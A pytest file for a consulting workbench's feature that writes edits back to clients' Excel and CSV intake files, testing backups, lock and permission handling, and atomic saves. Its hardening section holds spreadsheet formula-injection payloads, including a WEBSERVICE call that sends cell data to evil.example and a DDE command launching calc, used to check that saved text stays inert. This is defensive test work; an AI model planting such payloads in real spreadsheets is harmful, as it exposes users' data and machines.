"""Saving edits back to a client's own intake (workbench.intake.writeback), on copies of the demo clients."""
from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

from workbench.intake.reading import load_client
from workbench.widgets import Engagement
from workbench.intake.writeback import save_tables

ROOT = Path(__file__).resolve().parents[1]
CLIENTS = ROOT / "clients"


def copy_client(tmp_path: Path, client_id: str) -> Path:
    src = CLIENTS / client_id
    if not src.is_dir():
        pytest.fail(f"demo client {client_id} not present")
    dst = tmp_path / client_id
    shutil.copytree(src, dst, ignore=shutil.ignore_patterns("backups"))
    return dst


def decorate_workbook(path: Path) -> None:
    """Add what a consultant's workbook carries: a header comment, a data validation, a fill, an extra
    column with values and an extra sheet; writeback must leave all of them alone."""
    wb = openpyxl.load_workbook(path)
    ws = wb["kpis"]
    ws["A1"].comment = Comment("指标编号, 唯一", "consultant")
    dv = DataValidation(type="list", formula1='"是,否"', allow_blank=True)
    veto_col = next(c.column_letter for c in ws[1] if c.value == "veto")
    dv.add(f"{veto_col}2:{veto_col}200")
    ws.add_data_validation(dv)
    ws["B2"].fill = PatternFill("solid", fgColor="FFFFFF00")
    extra = ws.max_column + 1
    ws.cell(row=1, column=extra, value="备注")
    for r in range(2, ws.max_row + 1):
        ws.cell(row=r, column=extra, value=f"note {r}")
    notes = wb.create_sheet("说明")
    notes["A1"] = "consultant notes, not a table"
    wb.save(path)


def test_xlsx_save_changes_only_the_edited_cells(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    decorate_workbook(folder / "intake.xlsx")
    before = openpyxl.load_workbook(folder / "intake.xlsx")
    original_bytes = (folder / "intake.xlsx").read_bytes()

    eng = Engagement(folder)
    kpis = eng.table("kpis")
    k = kpis[kpis["method"] == "ratio"].iloc[0]
    kid, row = str(k["kpi_id"]), int(k["_row"])
    new_target = float(k["target"]) * 1.1 + 0.5
    assert not [m for m in eng.set_kpi(kid, target=new_target) if m.severity == "error"]
    cause = eng.table("causes").iloc[0]
    assert not eng.add_cause("C99", str(cause["problem_id"]), "法", "新增原因", impact=4, effort=2, verified=True)
    res = eng.save()
    assert res.ok, res.report.format()

    # backup of the original file
    assert res.backup is not None and res.backup.parent == folder / "backups"
    assert (res.backup / "intake.xlsx").read_bytes() == original_bytes
    after = openpyxl.load_workbook(folder / "intake.xlsx")
    ws, ws0 = after["kpis"], before["kpis"]
    col = next(c.column for c in ws[1] if c.value == "target")
    assert ws.cell(row=row, column=col).value == pytest.approx(new_target)
    assert isinstance(ws.cell(row=row, column=col).value, (int, float))
    # every other cell of kpis, and every cell of untouched sheets, is as it was
    for r in range(1, ws0.max_row + 1):
        for c in range(1, ws0.max_column + 1):
            if (r, c) != (row, col):
                assert ws.cell(r, c).value == ws0.cell(r, c).value, (r, c)
    for name in before.sheetnames:
        if name in ("kpis", "causes"):
            continue
        assert [[c.value for c in r] for r in after[name].iter_rows()] == \
               [[c.value for c in r] for r in before[name].iter_rows()], name
    # formatting, comment, data validation, extra column/sheet
    assert ws["A1"].comment is not None and "指标编号" in ws["A1"].comment.text
    assert any('"是,否"' in str(d.formula1) for d in ws.data_validations.dataValidation)
    assert ws["B2"].fill.fgColor.rgb == "FFFFFF00"
    assert ws["A1"].fill.fgColor.rgb == ws0["A1"].fill.fgColor.rgb
    assert ws.cell(row=2, column=ws0.max_column).value == "note 2"
    assert after["说明"]["A1"].value == "consultant notes, not a table"
    assert after.sheetnames == before.sheetnames
    # the new cause: appended under the last row, yes/no in the client's wording, numbers as numbers
    wc = after["causes"]
    hdr = {c.value: c.column for c in wc[1]}
    last = before["causes"].max_row + 1
    assert wc.cell(last, hdr["cause_id"]).value == "C99"
    assert wc.cell(last, hdr["category"]).value == "法"
    assert wc.cell(last, hdr["verified"]).value == "是"
    assert wc.cell(last, hdr["impact"]).value == 4
    # reloading gives the edited values
    client = load_client(folder)
    assert client.table("kpis").set_index("kpi_id").loc[kid, "target"] == pytest.approx(new_target)
    assert "C99" in set(client.table("causes")["cause_id"])


def test_xlsx_dates_written_as_dates_and_rows_cleared(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "riverside-hospital")
    client = load_client(folder)
    actions = client.table("actions").copy()
    due = pd.Timestamp("2027-01-15")
    actions.loc[actions.index[0], "due"] = due
    dropped_row = int(actions["_row"].iloc[-1])
    dropped_id = actions["action_id"].iloc[-1]
    actions = actions.iloc[:-1]
    res = save_tables(folder, {"actions": actions})
    assert res.ok, res.report.format()
    ws = openpyxl.load_workbook(folder / "intake.xlsx")["actions"]
    hdr = {c.value: c.column for c in ws[1]}
    cell = ws.cell(int(client.table("actions")["_row"].iloc[0]), hdr["due"])
    v = cell.value
    assert isinstance(v, (dt.date, dt.datetime)), v  # a real Excel date, not text
    assert (v.date() if isinstance(v, dt.datetime) else v) == due.date()
    assert all(c.value is None for c in ws[dropped_row])
    again = load_client(folder).table("actions")
    assert dropped_id not in set(again["action_id"])
    assert again.iloc[0]["due"] == due


def test_csv_save_rewrites_only_edited_tables(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "jinfeng-logistics")
    kpis_csv = folder / "kpis.csv"
    lines = kpis_csv.read_text(encoding="utf-8").splitlines()
    lines = [lines[0] + ",备注"] + [ln + f",extra {i}" for i, ln in enumerate(lines[1:], start=2)]
    kpis_csv.write_text("\n".join(lines) + "\n", encoding="utf-8")
    untouched = {p.name: p.read_bytes() for p in folder.glob("*.csv") if p.name != "kpis.csv"}
    original = kpis_csv.read_bytes()

    eng = Engagement(folder)
    kpis = eng.table("kpis")
    contract = kpis["owner_unit"].astype(str) + "/" + kpis["owner"].fillna("").astype(str)
    first = contract.iloc[0]
    mine = kpis[contract == first]
    a, b = str(mine["kpi_id"].iloc[0]), str(mine["kpi_id"].iloc[1])
    wa, wb_ = float(mine["weight"].iloc[0]), float(mine["weight"].iloc[1])
    eng.set_kpi(a, weight=wa + 5)
    assert eng.messages("kpis", a, "weight")  # sum is 105 now: message next to the weight just edited
    assert not eng.set_kpi(b, weight=wb_ - 5)
    res = eng.save()
    assert res.ok, res.report.format()
    assert res.files == [kpis_csv]
    assert (res.backup / "kpis.csv").read_bytes() == original
    for name, data in untouched.items():
        assert (folder / name).read_bytes() == data, name
    text = kpis_csv.read_text(encoding="utf-8").splitlines()
    assert text[0] == lines[0]  # column order kept, extra column kept
    assert text[1].endswith(",extra 2") and text[2].endswith(",extra 3")
    assert len(text) == len(lines)
    again = load_client(folder).table("kpis").set_index("kpi_id")
    assert again.loc[a, "weight"] == wa + 5 and again.loc[b, "weight"] == wb_ - 5
    assert list(again["备注"])[:2] == ["extra 2", "extra 3"]


def test_invalid_edit_writes_nothing(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    before = (folder / "intake.xlsx").read_bytes()
    eng = Engagement(folder)
    kid = str(eng.table("kpis")["kpi_id"].iloc[0])
    eng.set_kpi(kid, weight=1)
    res = eng.save()
    assert not res.ok
    assert any("weights" in i.message for i in res.report.errors)
    assert (folder / "intake.xlsx").read_bytes() == before
    assert not (folder / "backups").exists()


def test_changed_on_disk_is_refused(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "jinfeng-logistics")
    eng = Engagement(folder)
    p = eng.table("problems").iloc[0]
    eng.edit_problem(str(p["problem_id"]), metric="changed")
    (folder / "problems.csv").write_bytes((folder / "problems.csv").read_bytes() + b"\n")
    with pytest.raises(SaveError) as info:
        eng.save()
    assert info.value.kind == "changed" and "changed on disk" in str(info.value)
    assert str(folder) in str(info.value)


# ------------------------------------------------------------------------------------------------ hardening
import errno
import os
import stat
import subprocess
import sys

from workbench.intake import writeback
from workbench.intake.writeback import SaveError

HOSTILE_TEXTS = ['=WEBSERVICE("http://evil.example/?"&E2)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
                 "+SUM(1,2)", "-2+3", "@cmd", "#N/A", "'=already quoted", "普通文本 = 不是公式"]


def edit_kpi_names(folder: Path, texts: list[str]) -> pd.DataFrame:
    kpis = load_client(folder).table("kpis").copy()
    for i, text in enumerate(texts):
        kpis.loc[kpis.index[i], "kpi"] = text
    return kpis


def test_xlsx_text_starting_with_formula_characters_stays_text(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    res = save_tables(folder, {"kpis": edit_kpi_names(folder, HOSTILE_TEXTS)})
    assert res.ok, res.report.format()
    ws = openpyxl.load_workbook(folder / "intake.xlsx")["kpis"]
    col = next(c.column for c in ws[1] if c.value == "kpi")
    rows = list(load_client(folder).table("kpis")["_row"])[: len(HOSTILE_TEXTS)]
    for text, row in zip(HOSTILE_TEXTS, rows):
        cell = ws.cell(int(row), col)
        assert cell.data_type == "s" and cell.value == text, (text, cell.data_type, cell.value)
    assert list(load_client(folder).table("kpis")["kpi"])[: len(HOSTILE_TEXTS)] == HOSTILE_TEXTS


def test_csv_text_is_neutralised_and_reads_back_exactly(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "jinfeng-logistics")
    res = save_tables(folder, {"kpis": edit_kpi_names(folder, HOSTILE_TEXTS)})
    assert res.ok, res.report.format()
    import csv as _csv

    rows = list(_csv.reader((folder / "kpis.csv").read_text(encoding="utf-8").splitlines()))
    col = rows[0].index("kpi")
    written = [r[col] for r in rows[1: 1 + len(HOSTILE_TEXTS)]]
    for field in written:  # no field a spreadsheet would run as a formula
        assert not field[:1] in "=+-@\t\r", field
    assert written[0] == "'" + HOSTILE_TEXTS[0] and written[-1] == HOSTILE_TEXTS[-1]
    assert list(load_client(folder).table("kpis")["kpi"])[: len(HOSTILE_TEXTS)] == HOSTILE_TEXTS


def test_percent_formatted_cell_gets_a_format_matching_the_value(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    kpis = load_client(folder).table("kpis")
    k = kpis[kpis["method"] == "ratio"].iloc[0]
    row = int(k["_row"])
    wb = openpyxl.load_workbook(folder / "intake.xlsx")
    ws = wb["kpis"]
    col = next(c.column for c in ws[1] if c.value == "target")
    ws.cell(row, col).number_format = "0%"  # as Excel does when 90% is typed
    wb.save(folder / "intake.xlsx")
    edited = load_client(folder).table("kpis").copy()
    edited.loc[edited["_row"] == row, "target"] = 90
    res = save_tables(folder, {"kpis": edited})
    assert res.ok, res.report.format()
    cell = openpyxl.load_workbook(folder / "intake.xlsx")["kpis"].cell(row, col)
    assert cell.value == 90 and "%" not in cell.number_format, cell.number_format


def _kid_target(folder: Path) -> pd.DataFrame:
    kpis = load_client(folder).table("kpis").copy()
    i = kpis.index[kpis["method"] == "ratio"][0]
    kpis.loc[i, "target"] = float(kpis.loc[i, "target"]) + 1
    return kpis


@pytest.mark.parametrize("lock, kind, holder", [("~$intake.xlsx", "locked_office", None),
                                                (".~lock.intake.xlsx#", "locked_libre", "张三")])
def test_open_in_an_editor_is_refused_naming_the_users_file(tmp_path: Path, lock: str, kind: str, holder: str | None) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    before = (folder / "intake.xlsx").read_bytes()
    (folder / lock).write_bytes("张三,WS-07,ws07,03.12.2026 09:30,file:///home/zs/.config;".encode() if holder else b"\x04zhao")
    with pytest.raises(SaveError) as info:
        save_tables(folder, {"kpis": _kid_target(folder)})
    err = info.value
    assert err.kind == kind and err.path == folder / "intake.xlsx"
    assert str(folder / "intake.xlsx") in str(err) and lock in str(err) and "关闭" in str(err)  # zh client, zh text
    assert "Close" in err.text("en")
    if holder:
        assert holder in str(err)
    assert (folder / "intake.xlsx").read_bytes() == before and not (folder / "backups").exists()


@pytest.mark.parametrize("how", ["flock", "lockf"])
def test_advisory_lock_held_by_another_program_is_refused(tmp_path: Path, how: str) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    target = folder / "intake.xlsx"
    before = target.read_bytes()
    code = (f"import fcntl, sys, time; f = open({str(target)!r}, 'r+b'); fcntl.{how}(f, fcntl.LOCK_EX); "
            "print('locked', flush=True); sys.stdin.read()")
    holder = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(SaveError) as info:
            save_tables(folder, {"kpis": _kid_target(folder)})
        assert info.value.kind == "locked_advisory" and str(target) in str(info.value)
    finally:
        holder.stdin.close()
        holder.wait(10)
    assert target.read_bytes() == before
    assert save_tables(folder, {"kpis": _kid_target(folder)}).ok  # released: the save goes through


def test_a_colleagues_write_during_the_save_is_not_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    real_apply = writeback._apply_xlsx

    def apply_while_colleague_saves(path, *a, **k):
        real_apply(path, *a, **k)
        wb = openpyxl.load_workbook(folder / "intake.xlsx")  # the colleague saves the user's file meanwhile
        wb["kpis"]["A1"].comment = Comment("colleague", "li")
        wb.save(folder / "intake.xlsx")

    edited = _kid_target(folder)
    monkeypatch.setattr(writeback, "_apply_xlsx", apply_while_colleague_saves)
    with pytest.raises(SaveError) as info:
        save_tables(folder, {"kpis": edited})
    assert info.value.kind == "changed" and str(folder / "intake.xlsx") in str(info.value)
    assert openpyxl.load_workbook(folder / "intake.xlsx")["kpis"]["A1"].comment.text == "colleague"
    assert not (folder / "backups").exists()


def test_csv_files_of_one_save_are_replaced_as_a_set(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = copy_client(tmp_path, "jinfeng-logistics")
    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
    client = load_client(folder)
    kpis = edit_kpi_names(folder, ["新名称"])
    problems = client.table("problems").copy()
    problems.loc[problems.index[0], "metric"] = "新指标"
    calls = []
    real_replace = os.replace

    def replace_then_disk_full(src, dst):
        calls.append(Path(dst).name)
        if len([c for c in calls if not c.startswith(".")]) == 2 and not Path(dst).name.startswith("."):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(writeback.os, "replace", replace_then_disk_full)
    with pytest.raises(SaveError) as info:
        save_tables(folder, {"kpis": kpis, "problems": problems})
    monkeypatch.undo()
    err = info.value
    assert err.kind == "disk_full" and err.path.parent == folder and ".tmp" not in str(err)
    assert "磁盘空间不足" in str(err)
    after = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
    assert after == before  # the first file was put back; no temp file left beside them


def test_permission_error_names_the_users_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = copy_client(tmp_path, "riverside-hospital")

    def denied(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied", "/tmp/.intake.xlsx.x1y2.tmp")

    monkeypatch.setattr(writeback.tempfile, "mkstemp", denied)
    with pytest.raises(SaveError) as info:
        save_tables(folder, {"kpis": _kid_target(folder)})
    assert info.value.kind == "permission"
    assert str(info.value).startswith(f"Cannot save {folder / 'intake.xlsx'}") and ".tmp" not in str(info.value)


def test_symlinked_intake_is_written_through_and_permissions_kept(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "huaxin-steel")
    (folder / "data").mkdir()
    real = folder / "data" / "workbook.xlsx"
    (folder / "intake.xlsx").rename(real)
    (folder / "intake.xlsx").symlink_to(Path("data") / "workbook.xlsx")
    os.chmod(real, 0o640)
    before = real.read_bytes()
    res = save_tables(folder, {"kpis": _kid_target(folder)})
    assert res.ok, res.report.format()
    assert (folder / "intake.xlsx").is_symlink() and real.read_bytes() != before
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert (res.backup / "intake.xlsx").read_bytes() == before


def test_read_only_intake_is_refused_and_stays_read_only(tmp_path: Path) -> None:
    folder = copy_client(tmp_path, "riverside-hospital")
    target = folder / "intake.xlsx"
    os.chmod(target, 0o444)
    with pytest.raises(SaveError) as info:
        save_tables(folder, {"kpis": _kid_target(folder)})
    assert info.value.kind == "readonly" and "read-only" in str(info.value)
    assert stat.S_IMODE(target.stat().st_mode) == 0o444


def test_the_notebook_shows_a_refused_save_in_the_clients_language(tmp_path: Path) -> None:
    from workbench.widgets import EngagementApp

    folder = copy_client(tmp_path, "huaxin-steel")
    app = EngagementApp(folder, folder.parent)
    kid = str(app.engagement.table("kpis")["kpi_id"].iloc[0])
    app.engagement.set_kpi(kid, target=float(app.engagement.table("kpis")["target"].iloc[0]) + 1)
    (folder / "~$intake.xlsx").write_bytes(b"\x02li")
    res = app.save()
    assert isinstance(res, SaveError)
    assert str(folder / "intake.xlsx") in app.save_out.value and "Excel" in app.save_out.value and "关闭" in app.save_out.value
    assert app.engagement.dirty  # the edits are still there to save once the workbook is closed


@pytest.mark.parametrize("client_id", ["huaxin-steel", "jinfeng-logistics"])
def test_formula_text_round_trips_through_the_notebook_unchanged_and_inert(tmp_path: Path, client_id: str) -> None:
    folder = copy_client(tmp_path, client_id)
    eng = Engagement(folder)
    kid = str(eng.table("kpis")["kpi_id"].iloc[0])
    pid = str(eng.table("problems")["problem_id"].iloc[0])
    assert not [m for m in eng.set_kpi(kid, kpi=HOSTILE_TEXTS[0]) if m.severity == "error"]
    assert not [m for m in eng.edit_problem(pid, metric="@SUM(A1:A9)") if m.severity == "error"]
    res = eng.save()
    assert res.ok, res.report.format()
    again = Engagement(folder)  # a fresh notebook session
    assert again.table("kpis").set_index("kpi_id").loc[kid, "kpi"] == HOSTILE_TEXTS[0]
    assert again.table("problems").set_index("problem_id").loc[pid, "metric"] == "@SUM(A1:A9)"
    if client_id == "huaxin-steel":  # inert in Excel: string cells, no formula anywhere in the workbook
        wb = openpyxl.load_workbook(folder / "intake.xlsx")
        assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    else:  # inert in a spreadsheet opening the CSV: no field starts with a formula character
        import csv as _csv

        for name in ("kpis.csv", "problems.csv"):
            for row in _csv.reader((folder / name).read_text(encoding="utf-8").splitlines()):
                assert not [f for f in row if f[:1] in ("=", "+", "@")], (name, row)
